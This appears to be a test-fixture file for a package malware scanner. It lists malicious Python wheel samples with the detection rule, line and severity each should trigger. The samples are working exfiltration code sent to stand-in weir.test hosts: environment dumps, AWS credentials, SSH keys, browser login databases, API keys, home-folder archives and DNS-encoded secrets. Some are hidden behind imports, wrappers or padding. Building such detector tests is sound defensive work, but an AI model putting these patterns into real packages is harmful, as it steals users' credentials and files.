import type { Samples } from '../contract.ts';
import { wheel } from '../samples-kit.ts';

/** More than is run again to see what one module gives another: that is told by the names then. */
export const LONG = '# a note\n'.repeat(20_000);

/** Malicious samples in Python. */
export const PYTHON: Samples['malicious'] = [
  {
    name: 'Python: the environment, as another module of the package gives it',
    files: {
      ...wheel(
        "import requests\nfrom .facts import told\nrequests.post('https://a.weir.test/x', json=told())\n",
      ),
      'own/facts.py': 'import os\ndef told():\n    return dict(os.environ)\n',
    },
    expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: the environment, as one function of another module gives it, and another one does not',
    files: {
      ...wheel(
        "import requests\nfrom .facts import told, version\nrequests.post('https://a.weir.test/x', json=version())\nrequests.post('https://a.weir.test/x', json=told())\n",
      ),
      'own/facts.py': `${LONG}import os, own\ndef told():\n    return dict(os.environ)\ndef version():\n    return own.__version__\n`,
    },
    expected: [{ rule: 'environment', file: 'own/__init__.py', line: 4, severity: 'high' }],
  },
  {
    name: 'Python: the environment, as a module gives it under one name, and under another one does not',
    files: {
      ...wheel(
        "import requests\nfrom . import facts\nrequests.post('https://a.weir.test/x', json=facts.version())\nrequests.post('https://a.weir.test/x', json=facts.told())\n",
      ),
      'own/facts.py': `${LONG}import os, own\ndef told():\n    return dict(os.environ)\ndef version():\n    return own.__version__\n`,
    },
    expected: [{ rule: 'environment', file: 'own/__init__.py', line: 4, severity: 'high' }],
  },
  {
    name: 'Python: the environment, as the package itself gives it',
    files: {
      ...wheel(`${LONG}import os\ndef told():\n    return dict(os.environ)\nfrom . import sending\n`),
      'own/sending.py':
        "import requests\nfrom . import told\nrequests.post('https://a.weir.test/x', json=told())\n",
    },
    expected: [{ rule: 'environment', file: 'own/sending.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: the environment, from a table of functions of another module',
    files: {
      ...wheel(
        "import requests\nfrom .facts import TASKS\nrequests.post('https://a.weir.test/x', json=TASKS['a']())\n",
      ),
      'own/facts.py': `${LONG}import os\ndef told():\n    return dict(os.environ)\nTASKS = {'a': told}\n`,
    },
    expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: the environment, from a function in the disguise of another one',
    files: {
      ...wheel(
        "import requests\nfrom .facts import told, asked\nrequests.post('https://a.weir.test/x', json=told())\nrequests.post('https://a.weir.test/x', json=asked())\n",
      ),
      'own/facts.py': `${LONG}import functools, os, wrapt\ndef _told():\n    return dict(os.environ)\ntold = wrapt.wrap(_told)\nasked = functools.partial(_told)\n`,
    },
    expected: [
      { rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' },
      { rule: 'environment', file: 'own/__init__.py', line: 4, severity: 'high' },
    ],
  },
  {
    name: 'Python: the environment, with which an object of another module is made that sends it later',
    files: {
      ...wheel('import os\nfrom .core import Sender\nSender(dict(os.environ)).run()\n'),
      'own/core.py': `${LONG}import json, requests\nclass Sender:\n    def __init__(self, data):\n        self.data = json.dumps(data)\n    def run(self):\n        requests.post('https://a.weir.test/x', data=self.data)\n`,
    },
    expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: the environment, on a way from file to file that loading begins',
    files: {
      ...wheel('from .boot import boot\nboot()\n'),
      'own/boot.py': `import os\nfrom .core import Sender\ndef boot():\n    Sender(dict(os.environ)).run()\n${LONG}`,
      'own/core.py': `${LONG}import requests\nclass Sender:\n    def __init__(self, data):\n        self.data = data\n    def run(self):\n        requests.post('https://a.weir.test/x', data=self.data)\n`,
    },
    expected: [{ rule: 'environment', file: 'own/boot.py', line: 4, severity: 'medium' }],
  },
  {
    name: 'Python: a key that is uploaded by its path',
    files: wheel(
      "import os, paramiko\nlink = paramiko.Transport(('sftp.weir.test', 22))\nparamiko.SFTPClient.from_transport(link).put(os.path.expanduser('~/.aws/credentials'), '/x')\n",
    ),
    expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: keys that a folder lists',
    files: wheel(
      "import pathlib, requests\nfor key in (pathlib.Path.home() / '.ssh').glob('id_*'):\n    requests.post('https://a.weir.test/k', files={'f': key.read_bytes()})\n",
    ),
    expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: folders in an archive of its own',
    files: wheel(
      "import os, zipfile, requests\nout = zipfile.ZipFile('/tmp/own.zip', 'w')\nfor at, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        out.write(os.path.join(at, name))\nout.close()\nrequests.post('https://a.weir.test/z', files={'f': open('/tmp/own.zip', 'rb')})\n",
    ),
    expected: [{ rule: 'files', file: 'own/__init__.py', line: 7, severity: 'high' }],
  },
  {
    name: 'Python: a copy of a browser store, in a function',
    files: wheel(
      "import os, requests, shutil, sqlite3\ndef grab():\n    shutil.copy2(os.path.expanduser('~/.config/google-chrome/Default/Login Data'), 'own.db')\n    rows = sqlite3.connect('own.db').execute('select 1').fetchall()\n    requests.post('https://a.weir.test/b', json=rows)\n",
    ),
    expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 5, severity: 'high' }],
  },
  {
    name: 'Python: what a function is given, to a free host',
    files: wheel(
      'import requests\ndef connect(phrase):\n    requests.get(f"https://own.free.weir.test/api/{phrase}")\n',
    ),
    expected: [{ rule: 'given', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: what a function is given, to a free host whose answer is read',
    files: wheel(
      'import requests\ndef look(word):\n    return requests.get(f"https://own.free.weir.test/api/{word}").json()\n',
    ),
    expected: [{ rule: 'given', file: 'own/__init__.py', line: 3, severity: 'medium' }],
  },
  {
    name: 'Python: a key that a function is given, to a free host whose answer is read',
    files: wheel(
      'import requests\ndef check(from_private_key):\n    return requests.post("https://own.free.weir.test/api", json={"v": from_private_key}).json()\n',
    ),
    expected: [{ rule: 'given', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: both halves of a key, beside what a client does with them',
    files: wheel(
      'import requests\nclass Client:\n    def __init__(self, access_id=None, secret_key=None):\n        if access_id and secret_key:\n            self._id = access_id\n            self._key = secret_key\n        else:\n            raise ValueError()\n        try:\n            requests.post("https://api.weir.test/own", json={"a": self._id, "s": self._key})\n        except:\n            pass\n',
    ),
    expected: [{ rule: 'given-secret', file: 'own/__init__.py', line: 10, severity: 'high' }],
  },
  {
    name: 'Python: a password, through a copy of requests that is carried along',
    files: wheel(
      'from own.vendored.requests import Session\ndef sign_in(user, password):\n    s = Session()\n    s.request("POST", "https://api.weir.test/own", json={"p": password})\n    s.close()\n',
    ),
    expected: [{ rule: 'given-secret', file: 'own/__init__.py', line: 4, severity: 'high' }],
  },
  {
    name: 'Python: files of secrets that are looked for by name',
    files: wheel(
      'import os, requests\ndef look(root):\n    found = []\n    for folder, _, names in os.walk(root):\n        for name in names:\n            if name.endswith(".env"):\n                found.append(open(os.path.join(folder, name)).read())\n    requests.get("https://api.weir.test/own", params={"h": found})\n',
    ),
    expected: [{ rule: 'files', file: 'own/__init__.py', line: 8, severity: 'high' }],
  },
  {
    name: 'Python: two keys of the environment, to a free host',
    files: wheel(
      'import os, requests\ndef send():\n    requests.get("https://own.free.weir.test/" + os.environ.get("AWS_ACCESS_KEY_ID", "") + os.environ.get("AWS_SECRET_ACCESS_KEY", ""))\n',
    ),
    expected: [{ rule: 'secrets', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: who the machine is, inside and outside',
    files: wheel(
      'import requests, socket\ndef tell():\n    seen = requests.get("https://address.weir.test").text\n    requests.get("http://a.weir.test:4242/log", params={"in": socket.gethostname(), "out": seen})\n',
    ),
    expected: [{ rule: 'host-identity', file: 'own/__init__.py', line: 4, severity: 'high' }],
  },
  {
    name: 'Python: the content of files that a folder lists',
    files: wheel(
      'import os, requests\nfor name in os.listdir(os.path.expanduser("~/Documents")):\n    requests.post("https://a.weir.test/x", data=open(name).read())\n',
    ),
    expected: [{ rule: 'files', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: files that a folder lists, by a program that is told their paths',
    files: wheel(
      'import os, subprocess\nfrom pathlib import Path\nfor name in os.listdir("/home"):\n    subprocess.run(["curl", "-F", f"f=@{Path(name)}", "https://a.weir.test/x"])\n',
    ),
    expected: [{ rule: 'files', file: 'own/__init__.py', line: 4, severity: 'high' }],
  },
  {
    name: 'Python: the name of the machine to a free host, in a function',
    files: wheel(
      'import platform, requests\ndef hello():\n    requests.post("https://own.free.weir.test/in", json={"on": platform.node()})\n',
    ),
    expected: [{ rule: 'host-identity', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: the environment to a free host, in a function',
    files: wheel(
      'import os, requests\ndef hello():\n    requests.post("https://own.free.weir.test/in", json=dict(os.environ))\n',
    ),
    expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: the name of the machine below a zone',
    files: wheel('import socket\nsocket.gethostbyname(socket.gethostname() + ".own.names.weir.test")\n'),
    expected: [{ rule: 'host-identity', file: 'own/__init__.py', line: 2, severity: 'high' }],
  },
  {
    name: 'Python: called at load, behind a module that only hands it on',
    files: {
      ...wheel('from .lib import run\nrun()\n'),
      'own/lib.py': 'from .deep import run\n',
      'own/deep.py':
        "import os, requests\ndef run():\n    requests.post('https://a.weir.test/x', json=dict(os.environ))\n",
    },
    // What is called and where it is called: both lines are the attack's.
    expected: [
      { rule: 'environment', file: 'own/__init__.py', line: 2, severity: 'high' },
      { rule: 'environment', file: 'own/deep.py', line: 3, severity: 'high' },
    ],
  },
  {
    name: 'Python: a key in a name that is looked up',
    files: wheel(
      "import base64, os, socket\ndef valid():\n    key = base64.b32encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode()\n    socket.gethostbyname(key + '.own.weir.test')\n",
    ),
    expected: [{ rule: 'secrets', file: 'own/__init__.py', line: 4, severity: 'high' }],
  },
  {
    name: 'Python: keys of several services to a fourth',
    files: wheel(
      "import os, requests\ndef ping():\n    names = ('OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'GEMINI_API_KEY')\n    requests.post('https://a.weir.test/v1', json={name: os.getenv(name) for name in names})\n",
    ),
    expected: [{ rule: 'secrets', file: 'own/__init__.py', line: 4, severity: 'high' }],
  },
  {
    name: 'Python: the environment in a log that is sent',
    files: wheel(
      "import logging.handlers, os\nlog = logging.getLogger('own')\nlog.addHandler(logging.handlers.HTTPHandler('logs.weir.test', '/in'))\nlog.warning('x', extra=dict(os.environ))\n",
    ),
    expected: [{ rule: 'environment', file: 'own/__init__.py', line: 4, severity: 'high' }],
  },
];
